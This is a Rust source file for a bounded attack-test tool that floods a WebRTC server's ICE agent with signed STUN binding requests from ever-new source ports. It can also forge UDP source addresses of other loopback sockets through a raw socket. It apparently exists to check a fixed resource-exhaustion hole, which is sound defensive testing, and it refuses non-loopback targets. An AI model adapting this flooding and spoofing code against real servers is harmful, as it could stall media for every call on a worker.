//! An attacker's load on a worker's ICE agent: a participant that joins
//! and connects its media as a browser would, then sends valid binding
//! requests with its own credentials from a new source port each time.
//! Each new address used to become a peer-reflexive candidate and a pair
//! in the worker's ICE agent, never forgotten: the agent grew until the
//! media thread stalled for every call on it. Run beside `run`, it shows
//! whether one participant can still do that.
//!
//! Bounded like `flood-offers`: loopback targets only, a duration of at
//! most 600 s, at most 1,000 ports a second; it stops by itself.

use std::collections::{HashMap, HashSet, VecDeque};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use anyhow::{anyhow, bail, Context};
use serde_json::json;
use str0m::change::SdpAnswer;
use str0m::ice::{StunMessage, TransId};
use str0m::media::{Direction, MediaKind};
use str0m::net::{Protocol, Receive};
use str0m::{Event, Input, Output};
use tokio::net::UdpSocket;

use crate::flood::loopback_target;
use crate::parloir_client::{join, offer, send};
use crate::webrtc_client::new_rtc;

#[derive(clap::Args)]
pub struct FloodPortsArgs {
    /// Parloir URL on this machine (http://127.0.0.1:PORT).
    #[arg(long)]
    target: String,
    /// New source ports a second.
    #[arg(long, default_value_t = 50.0)]
    rate: f64,
    /// Seconds, at most 600.
    #[arg(long, default_value_t = 30.0)]
    duration: f64,
    /// Address the attacker's sockets bind to.
    #[arg(long, default_value = "127.0.0.1")]
    client_ip: IpAddr,
    /// Instead of new ports, send the requests (still signed with the
    /// attacker's own credentials) from the addresses of the other UDP
    /// sockets on 127.0.0.1, forged with a raw socket (root or
    /// CAP_NET_RAW): `--rate` a second from each. This machine's socket
    /// table stands for an attacker who sees the victims' traffic: a
    /// socket is forged from once it has been open for 3 s, by when its
    /// owner's media runs (an address forged before its owner first used
    /// it is the case docs/security.md leaves open).
    #[arg(long)]
    spoof: bool,
}

/// A stray port is read for answers this long, then closed.
const KEEP_PORT: Duration = Duration::from_secs(2);

/// What the attacker saw.
#[derive(Debug, Default)]
struct Tally {
    /// Addresses whose source was forged (`--spoof`).
    spoofed_sources: HashSet<u16>,
    /// Binding requests sent, each from a new port.
    sent: u64,
    /// Of those, answered with a success: taken by the worker's agent.
    answered: u64,
    /// The ports they were answered on: the system hands out a closed
    /// port again, and one the worker already took is answered again.
    answered_ports: HashSet<u16>,
    /// Its own call connected (DTLS done), and was still up at the end.
    connected: bool,
    ended: bool,
}

/// The answer's ICE credentials (the server's address comes from the
/// connection's own datagrams).
fn server_ice(answer: &str) -> anyhow::Result<(String, String)> {
    let attr = |name: &str| {
        answer
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(|v| v.trim().to_string())
            .ok_or_else(|| anyhow!("no {name} in the answer"))
    };
    Ok((attr("a=ice-ufrag:")?, attr("a=ice-pwd:")?))
}

/// A binding request from the client (`ufrag`) to the server, signed with
/// the server's password: what a browser sends from each of its
/// candidates.
fn binding_request(username: &str, server_pwd: &str) -> Vec<u8> {
    let msg = StunMessage::binding_request(username, TransId::new(), true, 1, 0x6e00_00ff, false);
    let mut buf = vec![0u8; 256];
    let n = msg
        .to_bytes(Some(server_pwd.as_bytes()), &mut buf, hmac_sha1)
        .expect("a binding request fits in 256 bytes");
    buf.truncate(n);
    buf
}

/// STUN's MESSAGE-INTEGRITY.
fn hmac_sha1(key: &[u8], parts: &[&[u8]]) -> [u8; 20] {
    let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA1_FOR_LEGACY_USE_ONLY, key);
    let mut ctx = aws_lc_rs::hmac::Context::with_key(&key);
    for p in parts {
        ctx.update(p);
    }
    let mut out = [0u8; 20];
    out.copy_from_slice(ctx.sign().as_ref());
    out
}

/// Forges the source of UDP datagrams on loopback with a raw socket that
/// writes its own IPv4 header, and finds whom to forge from.
struct Spoofer {
    raw: socket2::Socket,
    /// Each socket on loopback, and when it was first seen.
    seen: HashMap<u16, Instant>,
    victims: Vec<SocketAddr>,
    read_at: Option<Instant>,
}

/// How long a socket is open before it is forged from: an attacker
/// learns an address from its owner's traffic.
const SEEN_FOR: Duration = Duration::from_secs(3);

impl Spoofer {
    fn new() -> std::io::Result<Self> {
        // SOCK_RAW (socket2 names it only with its "all" feature) and
        // IPPROTO_RAW: the header is the caller's (IP_HDRINCL).
        let raw = socket2::Socket::new(
            socket2::Domain::IPV4,
            socket2::Type::from(3),
            Some(socket2::Protocol::from(255)),
        )?;
        Ok(Spoofer {
            raw,
            seen: HashMap::new(),
            victims: Vec::new(),
            read_at: None,
        })
    }

    /// The UDP sockets bound on 127.0.0.1 other than `own` and the
    /// server's, open for [`SEEN_FOR`], read again every second.
    fn victims(&mut self, own: u16, server: u16) -> Vec<SocketAddr> {
        if self
            .read_at
            .is_none_or(|at| at.elapsed() >= Duration::from_secs(1))
        {
            self.read_at = Some(Instant::now());
            let now = Instant::now();
            let table = std::fs::read_to_string("/proc/net/udp").unwrap_or_default();
            let open: HashSet<u16> = loopback_sockets(&table)
                .filter(|p| *p != own && *p != server)
                .collect();
            self.seen.retain(|p, _| open.contains(p));
            for p in open {
                self.seen.entry(p).or_insert(now);
            }
            self.victims = self
                .seen
                .iter()
                .filter(|(_, at)| now.duration_since(**at) >= SEEN_FOR)
                .map(|(p, _)| SocketAddr::from((Ipv4Addr::LOCALHOST, *p)))
                .collect();
        }
        self.victims.clone()
    }

    /// One UDP datagram from `from` to `to` (both IPv4): the kernel fills
    /// in the header's length, checksum and id; UDP's checksum is left
    /// out, as IPv4 allows.
    fn send(&self, from: SocketAddr, to: SocketAddr, payload: &[u8]) -> std::io::Result<()> {
        let (SocketAddr::V4(from), SocketAddr::V4(to)) = (from, to) else {
            return Err(std::io::ErrorKind::Unsupported.into());
        };
        let udp_len = (8 + payload.len()) as u16;
        let mut p = Vec::with_capacity(20 + usize::from(udp_len));
        p.extend_from_slice(&[0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0]);
        p.extend_from_slice(&from.ip().octets());
        p.extend_from_slice(&to.ip().octets());
        p.extend_from_slice(&from.port().to_be_bytes());
        p.extend_from_slice(&to.port().to_be_bytes());
        p.extend_from_slice(&udp_len.to_be_bytes());
        p.extend_from_slice(&[0, 0]);
        p.extend_from_slice(payload);
        self.raw.send_to(&p, &SocketAddr::V4(to).into())?;
        Ok(())
    }
}

/// The ports of the UDP sockets bound on 127.0.0.1 in a `/proc/net/udp`
/// table.
fn loopback_sockets(table: &str) -> impl Iterator<Item = u16> + '_ {
    table.lines().skip(1).filter_map(|line| {
        let local = line.split_whitespace().nth(1)?;
        let (ip, port) = local.split_once(':')?;
        // The address's bytes in network order, read as a host word.
        let ip = Ipv4Addr::from(u32::from_str_radix(ip, 16).ok()?.to_ne_bytes());
        (ip == Ipv4Addr::LOCALHOST).then(|| u16::from_str_radix(port, 16).ok())?
    })
}

async fn attack(base: &str, a: &FloodPortsArgs, until: Instant) -> anyhow::Result<Tally> {
    let mut t = Tally::default();
    let room = format!("ports-{:08x}", rand::random::<u32>());
    let mut ws = join(base, &room, "ports").await?;
    let sock = UdpSocket::bind((a.client_ip, 0)).await?;
    let local = sock.local_addr()?;
    let mut rtc = new_rtc(local)?;
    let mut change = rtc.sdp_api();
    change.add_media(MediaKind::Audio, Direction::SendOnly, None, None, None);
    let (sdp, pending) = change.apply().ok_or_else(|| anyhow!("nothing to offer"))?;
    let answer = match offer(&mut ws, &sdp.to_sdp_string()).await? {
        Ok(answer) => answer,
        Err(m) => bail!("offer refused: {m}"),
    };
    let (server_ufrag, server_pwd) = server_ice(&answer)?;
    rtc.sdp_api()
        .accept_answer(pending, SdpAnswer::from_sdp_string(&answer)?)?;
    let username = format!(
        "{server_ufrag}:{}",
        rtc.direct_api().local_ice_credentials().ufrag
    );
    let request = binding_request(&username, &server_pwd);

    let interval = Duration::from_secs_f64(1.0 / a.rate);
    let mut spoofer = if a.spoof {
        Some(Spoofer::new().context("a raw socket (root or CAP_NET_RAW)")?)
    } else {
        None
    };
    let mut next_stray = Instant::now();
    let mut strays: VecDeque<(Instant, std::net::UdpSocket)> = VecDeque::new();
    let mut server = None;
    let mut buf = vec![0u8; 2048];
    loop {
        let timeout = loop {
            match rtc.poll_output()? {
                Output::Timeout(t) => break t,
                Output::Transmit(tx) => {
                    server = Some(tx.destination);
                    let _ = sock.send_to(&tx.contents, tx.destination).await;
                }
                Output::Event(Event::Connected) => t.connected = true,
                Output::Event(_) => {}
            }
        };
        let now = Instant::now();
        if now >= until || !rtc.is_alive() {
            t.ended = !rtc.is_alive();
            break;
        }
        // Each stray port is read for the worker's answer, then closed.
        while let Some((opened, s)) = strays.front() {
            while let Ok(n) = s.recv(&mut buf) {
                if StunMessage::parse(&buf[..n]).is_ok_and(|m| m.is_successful_binding_response()) {
                    t.answered += 1;
                    if let Ok(local) = s.local_addr() {
                        t.answered_ports.insert(local.port());
                    }
                }
            }
            if now.duration_since(*opened) < KEEP_PORT {
                break;
            }
            strays.pop_front();
        }
        if let (true, Some(server), Some(spoofer)) =
            (t.connected && now >= next_stray, server, spoofer.as_mut())
        {
            for from in spoofer.victims(local.port(), server.port()) {
                if spoofer.send(from, server, &request).is_ok() {
                    t.sent += 1;
                    t.spoofed_sources.insert(from.port());
                }
            }
            next_stray += interval;
            next_stray = next_stray.max(now - Duration::from_secs(1));
        } else if let (true, Some(server)) = (t.connected && now >= next_stray, server) {
            let s = std::net::UdpSocket::bind((a.client_ip, 0))?;
            s.set_nonblocking(true)?;
            if s.send_to(&request, server).is_ok() {
                t.sent += 1;
            }
            strays.push_back((now, s));
            next_stray += interval;
            // Behind by more than a second (a busy machine): no catching up.
            next_stray = next_stray.max(now - Duration::from_secs(1));
        }
        let wake = timeout
            .min(until)
            .min(if t.connected { next_stray } else { until });
        tokio::select! {
            r = sock.recv_from(&mut buf) => {
                let (n, source) = r?;
                if let Ok(contents) = buf[..n].try_into() {
                    let input = Input::Receive(Instant::now(), Receive {
                        proto: Protocol::Udp, source, destination: local, contents,
                    });
                    let _ = rtc.handle_input(input);
                }
            }
            _ = tokio::time::sleep_until(wake.into()) => {
                rtc.handle_input(Input::Timeout(Instant::now()))?;
            }
        }
    }
    let _ = send(&mut ws, json!({"type":"leave"})).await;
    Ok(t)
}

pub fn main(a: FloodPortsArgs) -> anyhow::Result<()> {
    let base = loopback_target(&a.target)?;
    if !a.client_ip.is_loopback() {
        bail!("--client-ip must be a loopback address");
    }
    if !(a.duration > 0.0 && a.duration <= 600.0) {
        bail!("--duration must be above 0 and at most 600 s");
    }
    if !(a.rate > 0.0 && a.rate <= 1000.0) {
        bail!("--rate must be above 0 and at most 1,000 ports a second");
    }
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    let started = Instant::now();
    let until = started + Duration::from_secs_f64(a.duration);
    let t = rt
        .block_on(attack(&base, &a, until))
        .context("the attacker's call")?;
    let what = if a.spoof {
        format!(
            "{:.0} a second from each of {} forged sources",
            a.rate,
            t.spoofed_sources.len()
        )
    } else {
        format!("{:.0} new ports a second", a.rate)
    };
    println!(
        "flood-ports: {:.1} s, {what}; binding requests sent {}, answered {} on {} distinct ports; own call connected: {}, cut by the server: {}",
        started.elapsed().as_secs_f64(),
        t.sent,
        t.answered,
        t.answered_ports.len(),
        t.connected,
        t.ended
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_answers_credentials_are_read() {
        let answer = "v=0\r\na=ice-ufrag:ab12\r\na=ice-pwd:secretsecretsecret\r\n";
        let (u, p) = server_ice(answer).unwrap();
        assert_eq!((u.as_str(), p.as_str()), ("ab12", "secretsecretsecret"));
        assert!(server_ice("v=0\r\n").is_err());
    }

    #[test]
    fn loopback_sockets_are_read_from_the_table() {
        let local = u32::from_ne_bytes([127, 0, 0, 1]);
        let other = u32::from_ne_bytes([10, 0, 0, 2]);
        let table = format!(
            "  sl  local_address rem_address   st\n\
             0: {local:08X}:9C40 00000000:0000 07\n\
             1: {other:08X}:9C41 00000000:0000 07\n\
             2: {local:08X}:0035 00000000:0000 07\n"
        );
        let ports: Vec<u16> = loopback_sockets(&table).collect();
        assert_eq!(ports, vec![40000, 53]);
    }

    #[test]
    fn a_request_is_signed_with_the_servers_password() {
        let bytes = binding_request("ab12:cd34", "secretsecretsecret");
        let msg = StunMessage::parse(&bytes).unwrap();
        assert!(msg.is_binding_request());
        assert_eq!(msg.split_username(), Some(("ab12", "cd34")));
        assert!(msg.verify(b"secretsecretsecret", hmac_sha1));
        assert!(!msg.verify(b"another-password", hmac_sha1));
    }
}
